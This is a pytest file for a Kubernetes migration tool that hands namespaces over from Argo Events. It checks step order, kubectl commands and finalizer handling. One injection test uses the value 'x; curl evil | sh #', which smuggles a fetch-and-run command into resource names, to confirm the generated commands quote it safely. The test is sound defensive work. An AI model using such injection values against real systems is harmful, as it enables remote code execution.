"""What is to be done, in which order, and what is left out because it is done."""

import shlex
from dataclasses import replace

import pytest

from events.resource import ResourceDocument
from kikkake.grants import Account
from kikkake.migration.inventory import Controller, Inventory, Made, NamespaceInventory, from_documents
from kikkake.migration.steps import steps_of
from kikkake.roles import Grant

SERVICE = {"service": {"ports": [{"port": 12000}]}, "webhook": {}}
WIDE = Controller("argo-events", "controller-manager", 2, "")
DEPLOYMENT = Made("Deployment", "hook-eventsource-x", "hook", "eventsource-controller")
GRANT = Grant(account=Account("ci", "builder"), namespace="ci", rules=({"verbs": ["get"]},))
FENCE = "request.userInfo.username in ['system:serviceaccount:argo-events:argo-events-sa']"
WHOLE = [
    "grant what the accounts and the gateway need",
    "pause the controller of Argo Events",
    "take nothing in any more",
    "wait until the Sensors have worked off what is on the bus",
    "stop the Sensors",
    "remove the Services of Argo Events",
    "remove the finalizers of Argo Events",
    "label the namespace",
    "let the controller of Argo Events go on for the other namespaces",
    "check",
]


def document(kind="EventSource", name="hook", spec=None, finalizers=()):
    metadata = {"name": name, "namespace": "ci", "finalizers": list(finalizers)}
    value = {"apiVersion": "argoproj.io/v1alpha1", "kind": kind, "metadata": metadata, "spec": spec or {}}
    return ResourceDocument(value, "", {})


SERVED = NamespaceInventory(
    name="ci",
    documents=(document(spec=SERVICE, finalizers=["eventsource-controller", "mine"]),),
    made=(DEPLOYMENT, Made("Service", "hook-eventsource-svc", "hook", "eventsource-controller")),
)
LIVE = Inventory(namespaces=(SERVED,), is_live=True, controllers=(WIDE,))


def steps(inventory=LIVE, namespace=SERVED, grants=(GRANT,), bindings=("kikkake-team",)):
    return {step.title: step for step in steps_of(inventory, namespace, grants, bindings=bindings)}


def test_a_namespace_that_is_served_is_handed_over_step_by_step():
    """Nothing new comes in before the Sensors stop, and nothing is labelled before they have stopped."""
    assert list(steps()) == WHOLE


def test_files_give_the_same_order_with_the_usual_names():
    inventory = from_documents([document(spec=SERVICE, finalizers=["eventsource-controller"])])
    found = steps_of(inventory, inventory.namespaces[0], [GRANT], files=["deploy/"])
    assert [step.title for step in found] == WHOLE
    assert found[0].commands == ("kikkake migrate --namespace ci -o yaml deploy/ | kubectl apply -f -",)


def test_what_argo_events_never_served_is_only_granted_and_labelled():
    namespace = NamespaceInventory(name="ci", documents=(document(),))
    inventory = Inventory(namespaces=(namespace,), is_live=True, controllers=())
    assert list(steps(inventory, namespace)) == [
        "grant what the accounts and the gateway need",
        "label the namespace",
        "check",
    ]


def test_a_namespace_that_has_moved_has_only_to_be_looked_at():
    namespace = NamespaceInventory(name="ci", documents=(document(),), is_enabled=True, has_team_binding=True)
    assert list(steps(replace(LIVE, fence=FENCE), namespace, (), ())) == ["check"]


def test_without_the_policy_a_controller_that_runs_takes_the_namespace_back():
    namespace = NamespaceInventory(name="ci", documents=(document(),), is_enabled=True, has_team_binding=True)
    assert list(steps(LIVE, namespace, (), ())) == [
        "pause the controller of Argo Events",
        "let the controller of Argo Events go on for the other namespaces",
        "check",
    ]


def test_a_controller_of_this_namespace_alone_stays_paused():
    own = replace(LIVE, controllers=(WIDE._replace(namespace="ci", managed="ci"),))
    found = steps(own)
    assert found["pause the controller of Argo Events"].commands == (
        "kubectl -n ci scale deployment controller-manager --replicas=0",
    )
    assert "let the controller of Argo Events go on for the other namespaces" not in found


def test_a_controller_of_another_namespace_is_left_alone():
    other = replace(LIVE, controllers=(WIDE._replace(managed="other"),))
    assert "pause the controller of Argo Events" not in steps(other)


def test_the_controller_gets_back_the_replicas_that_it_had():
    last = steps()["let the controller of Argo Events go on for the other namespaces"]
    assert last.commands == (
        "kubectl apply -k manifests/overlays/beside-argo-events",
        "kubectl -n argo-events scale deployment controller-manager --replicas=2",
    )


@pytest.mark.parametrize("fence", ["", FENCE])
def test_a_controller_with_another_account_has_to_be_added_to_the_policy(fence):
    strange = WIDE._replace(user="system:serviceaccount:argo:my-sa")
    found = steps(replace(LIVE, controllers=(strange,), fence=fence))
    why = found["let the controller of Argo Events go on for the other namespaces"].why
    assert "system:serviceaccount:argo:my-sa is not among the accounts of the policy" in why


def test_only_the_finalizers_of_argo_events_go():
    assert steps()["remove the finalizers of Argo Events"].commands == (
        'kubectl -n ci patch eventsource hook --type=merge -p \'{"metadata":{"finalizers":["mine"]}}\'',
    )


def test_the_bus_keeps_its_finalizer_so_that_one_can_go_back():
    namespace = replace(
        SERVED, documents=(document("EventBus", "default", finalizers=["eventbus-controller"]),)
    )
    found = steps(namespace=namespace)
    assert "remove the finalizers of Argo Events" not in found
    assert list(found)[-1] == "in the end, when nobody wants to go back: remove the bus"


def test_the_step_of_grants_names_what_it_makes():
    cluster = replace(GRANT, namespace=None)
    why = steps(grants=(GRANT, cluster))["grant what the accounts and the gateway need"].why
    assert (
        "the RoleBinding kikkake-team, the Role kikkake-builder in ci, the ClusterRole kikkake-ci-builder"
        in why
    )


def test_names_from_files_cannot_break_out_of_the_commands():
    evil = "x; curl evil | sh #"
    value = document(spec=SERVICE, finalizers=["eventsource-controller", "it's"]).value
    metadata = {**value["metadata"], "namespace": evil, "name": evil}
    inventory = from_documents([ResourceDocument({**value, "metadata": metadata}, "", {})])
    found = steps_of(inventory, inventory.namespaces[0], [GRANT], files=[evil])
    words = [shlex.split(command) for step in found for command in step.commands]
    assert sum(evil in each for each in words) >= 8
    assert not any("curl" in each for each in words)


def test_the_label_names_what_stands_there_with_the_account_that_it_acts_as():
    """The policy asks for the author of later changes only."""
    documents = (
        document(name="hook"),
        document("Sensor", "build", {"template": {"serviceAccountName": "builder"}}),
        document("Sensor", "odd", {"template": "text"}),
        document("EventBus", "default"),
    )
    namespace = NamespaceInventory(name="ci", documents=documents)

    why = steps(namespace=namespace)["label the namespace"].why

    assert why.endswith("accounts: Sensor build as builder; EventSource hook, Sensor odd as default")
